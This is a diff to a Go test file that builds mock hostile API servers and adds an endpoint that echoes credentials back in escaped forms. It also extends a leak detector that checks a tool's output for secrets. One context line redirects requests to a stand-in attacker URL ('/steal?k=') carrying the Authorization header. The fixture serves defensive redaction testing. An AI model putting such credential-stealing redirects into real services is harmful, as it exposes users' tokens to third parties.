@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"html"
 	"io"
 	"log/slog"
 	"net/http"
@@ -12,8 +13,10 @@ import (
 	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"sort"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -182,6 +185,23 @@ func hostileAPIs(t *testing.T) (api, evil *recorder) {
 			fmt.Fprintf(buf, "HTTP/1.1 401 Unauthorized %s\r\nX-%s: 1\r\nWWW-Authenticate: Bearer realm=\"r\", %s=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
 				strings.NewReplacer("\r", " ", "\n", " ").Replace(echoed(r)), name, name)
 			_ = buf.Flush()
+		case "/echo-escaped":
+			// Escaped every character, as no fixed form is: a
+			// quoted-string's \c in the challenge, JSON's \u in the body,
+			// percent-encoding in a header.
+			e := echoed(r)
+			each := func(format string) string {
+				var b strings.Builder
+				for i := 0; i < len(e); i++ {
+					fmt.Fprintf(&b, format, e[i])
+				}
+				return b.String()
+			}
+			w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+each(`\%c`)+`"`)
+			w.Header().Set("X-Echo", each("%%%02X"))
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(http.StatusUnauthorized)
+			fmt.Fprintf(w, `{"error":"invalid_token","you_sent":"%s","html":"%s"}`, each(`\u%04x`), each("&#%d;"))
 		case "/redirect":
 			http.Redirect(w, r, evilURL+"/steal?k="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
 		default:
@@ -194,6 +214,27 @@ func hostileAPIs(t *testing.T) (api, evil *recorder) {
 // leakIn reports which secret has a run of 12 characters, in any of its
 // forms and in any letter case, in text; "" when none. Written independently of checks/redact.
 func leakIn(text string, secrets map[string]string) string {
+	if l := leakInPlain(text, secrets); l != "" {
+		return l
+	}
+	// And once the escapes a server may echo in are undone, with the
+	// standard library and regexps.
+	u := regexp.MustCompile(`\\u[0-9a-fA-F]{4}`).ReplaceAllStringFunc(text, func(m string) string {
+		r, _ := strconv.ParseUint(m[2:], 16, 32)
+		return string(rune(r))
+	})
+	u = regexp.MustCompile(`%[0-7][0-9a-fA-F]`).ReplaceAllStringFunc(u, func(m string) string {
+		v, _ := url.PathUnescape(m)
+		return v
+	})
+	u = html.UnescapeString(regexp.MustCompile(`\\([!-~])`).ReplaceAllString(u, "$1"))
+	if l := leakInPlain(u, secrets); l != "" {
+		return l + ", escaped"
+	}
+	return ""
+}
+
+func leakInPlain(text string, secrets map[string]string) string {
 	for _, seg := range strings.Split(text, "<redacted>") {
 		for what, v := range secrets {
 			if v == "" {
@@ -312,6 +353,7 @@ environments:
       - {name: key-echo-json, credential: key, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
       - {name: key-redirect, credential: key, url: "%[7]s/redirect", follow_redirects: true}
       - {name: key-echo-status, credential: key, url: "%[7]s/echo-status"}
+      - {name: key-echo-escaped, credential: key, url: "%[7]s/echo-escaped"}
       - {name: basic-echo-challenge, credential: basic, url: "%[7]s/echo-challenge"}
       - {name: basic-echo-json, credential: basic, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
       - {name: basic-echo-status, credential: basic, url: "%[7]s/echo-status"}
@@ -600,7 +642,7 @@ func hostileRun(t *testing.T, store string) {
 }
 
 // hostileChecks are the checks of hostileConfig.
-var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/key-echo-status", "prod/basic-echo-challenge",
+var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/key-echo-status", "prod/key-echo-escaped", "prod/basic-echo-challenge",
 	"prod/basic-echo-json", "prod/basic-echo-status", "prod/client-echo", "prod/client-redirected", "prod/refresher-echo", "prod/request-secrets",
 	"staging/key-echo-challenge"}
 
